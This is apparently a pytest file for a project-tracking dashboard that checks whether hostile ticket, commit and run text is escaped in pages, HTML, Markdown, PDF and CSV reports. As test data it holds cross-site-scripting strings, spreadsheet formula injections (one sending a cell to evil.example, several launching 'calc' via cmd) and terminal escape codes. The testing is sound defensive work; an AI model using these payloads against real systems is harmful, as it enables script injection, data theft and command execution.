"""Untrusted text stays text: HTML, JavaScript and Markdown tricks in the sources never become markup.

Anyone who can open a ticket, push a commit or name a run writes text the dashboard and the reports
show. The seeded engagement gets a hostile name and hostile commit messages, PR titles and bodies,
comments, ticket summaries and run names and notes (script tags, event-handler attributes,
``javascript:`` links, Markdown headings/tables/emphasis, a 10,000-line text, emoji); each page and
each report format must show them literally. An audit also checks that no dashboard code can pass
text to Streamlit as raw HTML.

Hostile text also reaches spreadsheets and terminals: spreadsheet formulas in titles must reach no
CSV as formulas, escape codes no CSV raw, a NUL in a run note must not stop syncing (PostgreSQL
refuses NUL in text), and a source's error page must not become a megabyte-long message.
"""

from __future__ import annotations

import base64
import csv
import io
import re
import shutil
import subprocess
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import NewMlflowStore
from jira_server import FakeJira
from mlflow import MlflowClient
from pydantic import SecretStr
from pytest_httpserver import HTTPServer
from seed import CONFIG_TEXT, seed_store
from streamlit.testing.v1 import AppTest

from connectors.base import RetryPolicy
from connectors.jira.client import JiraClient
from connectors.jira.connector import JiraConnector
from connectors.mlflow.connector import MlflowConnector
from glassbox import cli
from glassbox.config import load_config
from glassbox.events import Event, Ref, commit_event_id, event_id
from glassbox.periods import Period
from glassbox.redaction import MESSAGE_LIMIT
from glassbox.reports import render_report
from glassbox.store import Store
from glassbox.sync import sync_connector
from glassbox.workspace import open_engagement

ROOT = Path(__file__).resolve().parents[1]
APP = str(ROOT / "dashboard" / "app.py")
PAGES = ("today", "timeline", "experiments", "feedback", "weekly_report")
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
JS_LINK = "[click](javascript:alert(1))"
MARKDOWN = "**bold** _it_ `code` # heading | a | b | ~~gone~~ $x^2$ > quote"
HOSTILE = f"{SCRIPT} {IMG} {JS_LINK} {MARKDOWN} 🚀 naïve 日本語"
LONG = "\n".join(f"line {number} {SCRIPT}" for number in range(10_000))
NAME = f"Acme {SCRIPT} {JS_LINK} 🚀"
FORMULAS = {  # title -> the cell a spreadsheet must get
    '=HYPERLINK("http://evil.example/?x="&A1,"click")': '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "' =1+1",
    "\r=1+1": "' =1+1",
    "\x1b[31m=1+2\x1b[0m done\x1b]0;pwned\x07\x07": "'=1+2 done",  # the codes hid a formula
}
RAW_MARKUP = re.compile(r"(?<!\\)<(script|img)|(?<!\\)\]\(javascript:", re.IGNORECASE)


def hostile_events(config_path: Path, now: datetime) -> list[Event]:
    config = load_config(config_path)
    jira, github, mlflow = (getattr(config, kind)[0].origin(config.folder) for kind in ("jira", "github", "mlflow"))
    at = now - timedelta(days=1)
    client = ("carol-acme", "carol@acme.example", "557058:carol")
    team = ("minh-dev", "minh@agency.example", "557058:minh")
    sha = "abad1dea" * 5
    ticket = {"source": "jira", "origin": jira, "thread": "CHURN-666", "refs": (Ref("ticket", "CHURN-666"),),
              "url": "https://acme.atlassian.net/browse/CHURN-666"}
    pr = {"source": "github", "origin": github, "thread": "acme/churn#666", "url": "https://github.com/acme/churn/pull/666",
          "attrs": {"number": 666, "pr_author": team[0], "merged": False}}
    run = {"source": "mlflow", "origin": mlflow, "thread": "churn", "actor": team[1], "actor_ids": (team[1],),
           "title": f"run {SCRIPT}", "body": f"{HOSTILE}\n{LONG}"}
    run_attrs = {"run_id": "hostile-run", "experiment": "churn", "params": {"note": HOSTILE},
                 "metrics": {"val_auc": 0.8}, "start_time": at.isoformat(), "commit": sha}
    formulas = [Event(id=commit_event_id(f"{number:040x}"), source="github", origin=github, category="commit",
                      occurred_at=at, actor=team[0], actor_ids=team[:2], thread="acme/churn", title=title,
                      refs=(Ref("commit", f"{number:040x}"),), attrs={"sha": f"{number:040x}", "parents": []})
                for number, title in enumerate(FORMULAS, start=1)]
    return [
        *formulas,
        Event(id=event_id("jira", jira, "666"), category="ticket_created", occurred_at=at, actor=client[2],
              actor_ids=client, title=HOSTILE, body=LONG,
              attrs={"key": "CHURN-666", "status": "To Do", "status_category": "new"}, **ticket),
        Event(id=event_id("jira", jira, "666c"), category="comment", occurred_at=at + timedelta(hours=1),
              actor=client[2], actor_ids=client, title="Comment on CHURN-666", body=f"{HOSTILE}\n{LONG}",
              attrs={"kind": "jira_comment", "key": "CHURN-666"}, **ticket),
        Event(id=commit_event_id(sha), source="github", origin=github, category="commit", occurred_at=at,
              actor=team[0], actor_ids=team[:2], thread="acme/churn", title=f"CHURN-666 {HOSTILE}",
              body=f"CHURN-666 {HOSTILE}\n{LONG}", refs=(Ref("commit", sha), Ref("ticket", "CHURN-666")),
              attrs={"sha": sha, "parents": []}),
        Event(id=event_id("github", github, "pr666"), category="pull_request_opened", occurred_at=at,
              actor=team[0], actor_ids=team[:2], title=HOSTILE, body=f"{HOSTILE}\n{LONG}", **pr),
        Event(id=event_id("github", github, "pr666m"), category="pull_request_merged",
              occurred_at=at + timedelta(hours=2), actor=team[0], actor_ids=team[:2], title=HOSTILE, **pr),
        Event(id=event_id("mlflow", mlflow, "hostile:started"), category="run_started", occurred_at=at,
              attrs={**run_attrs, "status": "RUNNING"}, **run),
        Event(id=event_id("mlflow", mlflow, "hostile:finished"), category="run_finished",
              occurred_at=at + timedelta(minutes=5), attrs={**run_attrs, "status": "FINISHED"}, **run),
    ]


@pytest.fixture(scope="module")
def engagement(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    text = CONFIG_TEXT.format(store_url=f"sqlite:///{folder / 'glassbox.db'}")
    path = folder / "glassbox.toml"
    path.write_text(text.replace('name = "Acme churn model"', f"name = {NAME!r}"), encoding="utf-8")
    config = load_config(path)
    store = open_engagement(config)
    now = datetime.now(UTC)
    seed_store(store, config, now=now, weeks=2)
    store.write(hostile_events(path, now))
    store.engine.dispose()
    return path


def test_no_dashboard_code_hands_streamlit_raw_html() -> None:
    """The audit: no ``unsafe_allow_html``, ``st.html`` or HTML components anywhere in the dashboard."""
    code = {path: path.read_text(encoding="utf-8") for path in (ROOT / "dashboard").rglob("*.py")}
    offenders = [str(path) for path, text in code.items()
                 if re.search(r"unsafe_allow_html|st\.html\(|components\.v1|\.html\(", text)]
    assert len(code) >= 8 and offenders == []


def markdown_texts(app: AppTest) -> list[str]:
    """What Streamlit renders as Markdown: markdown, captions, titles, headers, alerts, metric labels."""
    kinds = ("markdown", "caption", "title", "header", "subheader", "info", "warning", "error", "success")
    texts = [str(element.value) for kind in kinds for element in getattr(app, kind)]
    texts += [f"{metric.label} {metric.proto.help}" for metric in app.metric]
    return texts


@pytest.mark.parametrize("page", PAGES)
def test_pages_show_hostile_text_literally(page: str, engagement: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GLASSBOX_CONFIG", str(engagement))
    monkeypatch.delenv("GLASSBOX_DB_URL", raising=False)
    app = AppTest.from_file(APP, default_timeout=60)
    app.switch_page(f"views/{page}.py")
    app.run()
    assert not app.exception, app.exception[0].value if app.exception else ""
    texts = markdown_texts(app) + [str(element.value) for element in app.sidebar.markdown]
    assert any("Acme \\<script\\>" in text for text in texts), "the hostile name is shown, escaped"
    assert [text for text in texts if RAW_MARKUP.search(text)] == []
    if page == "timeline":
        titles = {title for table in app.dataframe if "Title" in table.value.columns for title in table.value["Title"]}
        assert HOSTILE in titles, "tables show the text exactly as written"


@pytest.fixture(scope="module")
def reports(engagement: Path) -> dict[str, str | bytes]:
    config = load_config(engagement)
    store = open_engagement(config)
    now = datetime.now(UTC)
    period = Period("last 10 days", now - timedelta(days=10), now + timedelta(hours=1))
    rendered = {fmt: render_report(store, config, period, fmt=fmt, view="team") for fmt in ("md", "html", "pdf")}
    store.engine.dispose()
    return rendered


class Markup(HTMLParser):
    """Tags, attributes and text of an HTML document."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_html_report_escapes_hostile_text(reports: dict[str, str | bytes]) -> None:
    page = Markup()
    page.feed(str(reports["html"]))
    names = {tag for tag, _ in page.tags}
    assert "script" not in names and "img" not in names and "iframe" not in names
    attributes = [(name, value or "") for _, attrs in page.tags for name, value in attrs]
    assert not [name for name, _ in attributes if name.lower().startswith("on")]
    assert not [value for name, value in attributes if name in ("href", "src") and
                not value.startswith(("https://", "http://", "#", "data:"))]
    text = "".join(page.text)
    assert SCRIPT in text and IMG in text and "🚀" in text, "shown as text, not dropped"


def test_markdown_report_escapes_hostile_text(reports: dict[str, str | bytes]) -> None:
    text = str(reports["md"])
    assert RAW_MARKUP.search(text) is None
    assert "&lt;script&gt;" in text and "🚀" in text
    assert "line 9999" not in text, "long texts are not pasted whole"
    assert not re.search(r"^#+ .*heading", text, re.MULTILINE), "a title cannot start a heading"


def test_pdf_report_shows_hostile_text_and_carries_no_script(reports: dict[str, str | bytes]) -> None:
    pdf = reports["pdf"]
    assert isinstance(pdf, bytes) and pdf.startswith(b"%PDF")
    assert b"/JavaScript" not in pdf and b"/JS " not in pdf and b"/Launch" not in pdf
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext is not installed (apt-get install poppler-utils); the HTML test covers the page")
    text = subprocess.run(["pdftotext", "-", "-"], input=pdf, check=True, capture_output=True).stdout.decode()
    assert "<script>alert(1)</script>" in text


def test_the_pdf_printer_reads_embedded_images_only(httpserver: HTTPServer, tmp_path: Path) -> None:
    """Were a URL ever to reach the printed page, the printer would not follow it: no request to a
    server, no local file read; the report's own ``data:`` image is drawn."""
    import weasyprint

    from glassbox.reports.pdf import embedded_only

    # a one-pixel RGB PNG (no alpha: one image object in the PDF, no soft mask)
    png = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGPgn9sFAAH1ATcerW5P"
                           "AAAAAElFTkSuQmCC")
    local = tmp_path / "local.png"
    local.write_bytes(png)
    page = (f'<link rel="stylesheet" href="{httpserver.url_for("/style.css")}">'
            f'<img src="{httpserver.url_for("/pixel.png")}"><img src="{local.as_uri()}">'
            f'<img src="data:image/png;base64,{base64.b64encode(png).decode()}">')
    pdf = weasyprint.HTML(string=page, url_fetcher=embedded_only()).write_pdf()
    assert httpserver.log == []
    assert pdf.count(b"/Subtype /Image") == 1


def test_csv_exports_neutralise_formulas_and_terminal_codes(
    engagement: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Timeline and report CSVs, both views: formulas start with ``'`` (OWASP), no escape code survives."""
    today = datetime.now(UTC).date()
    start, end = str(today - timedelta(days=10)), str(today + timedelta(days=1))
    config = load_config(engagement)
    store = open_engagement(config)
    period = Period("last 10 days", datetime.now(UTC) - timedelta(days=10),
                    datetime.now(UTC) + timedelta(days=1))
    exports = [str(render_report(store, config, period, fmt="csv", view=view)) for view in ("team", "client")]
    store.engine.dispose()
    for view in ("team", "client"):
        assert cli.main(["timeline", "--config", str(engagement), "--format", "csv", "--from", start, "--to", end,
                         "--view", view]) == 0
        exports.append(capsys.readouterr().out)
    for text in exports:
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", text), "no escape or control code"
        rows = list(csv.DictReader(io.StringIO(text)))
        assert set(FORMULAS.values()) <= {row["title"] for row in rows}
        cells = [cell for row in rows for cell in row.values()]
        assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
        assert HOSTILE in {row["title"] for row in rows}, "ordinary text is left as it was"


def test_nul_in_a_run_note_does_not_stop_syncing(store: Store, tmp_path: Path, write_config,
                                                  new_mlflow_store: NewMlflowStore) -> None:
    """On PostgreSQL a NUL failed every sync with SQL in the message; now both stores hold the note without it."""
    client = MlflowClient(new_mlflow_store(tmp_path / "mlflow.db"))
    experiment = client.create_experiment("churn", artifact_location=str(tmp_path / "artifacts"))
    start = int((datetime.now(UTC) - timedelta(days=1)).timestamp() * 1000)
    run = client.create_run(experiment, start_time=start, run_name="xgb-1",
                            tags={"mlflow.user": "minh", "mlflow.note.content": "tuned\x00 depth \x00CHURN-7"})
    client.log_param(run.info.run_id, "comment", "deep\x00er")
    client.set_terminated(run.info.run_id, "FINISHED", end_time=start + 60_000)
    config = load_config(write_config(f'[[mlflow]]\ntracking_uri = "sqlite:///{tmp_path / "mlflow.db"}"\n'))
    for attempt in ("first", "again"):
        summary = sync_connector(MlflowConnector.from_config(config.mlflow[0], config, "mlflow[0]"), store)
        assert summary.ok, f"{attempt}: {summary.error}"
    events = store.read_events(sources=["mlflow"], columns=("category", "body", "attrs"))
    assert sorted(events["category"]) == ["run_finished", "run_started"]
    assert set(events["body"]) == {"tuned depth CHURN-7"}
    assert {attrs["params"]["comment"] for attrs in events["attrs"]} == {"deeper"}
    assert set(store.read_refs()["value"]) >= {"CHURN-7"}


def test_a_huge_error_page_becomes_one_short_clean_line(httpserver: HTTPServer, sqlite_store: Store) -> None:
    """A Jira 400 with a 10 MB HTML page full of escape codes: one bounded line, in stderr and the store."""
    paragraph = "<p>\x1b[31mBad request\x1b[0m\r\n\tthe query was refused \x1b]0;pwned\x07</p>\n"
    page = "<html><body>" + paragraph * (10_000_000 // len(paragraph)) + "</body></html>"
    httpserver.expect_request("/big/rest/api/2/search").respond_with_data(page, status=400, content_type="text/html")
    fake = FakeJira(httpserver, prefix="/big")  # after our handler: ours answers the search
    client = JiraClient(fake.url, SecretStr("alice@acme.example"), SecretStr("s3cret-token"),
                        label=f"jira ({fake.url})",
                        secret_names=("JIRA_USER", "JIRA_TOKEN"), policy=RetryPolicy(max_retries=1, timeout=30))
    summary = sync_connector(JiraConnector(client, origin=fake.url, jql="project = DRILL"), sqlite_store)
    stored = sqlite_store.sync_runs()["message"].iloc[0]
    assert stored == summary.error
    assert len(stored) <= MESSAGE_LIMIT and "\n" not in stored and "\r" not in stored and "\x1b" not in stored
    assert stored.startswith(f"jira ({fake.url}): Jira rejected the query (<html><body><p>Bad request the query")
    assert stored.endswith("…) — check jql in the [[jira]] section"), "the advice survives the cut"
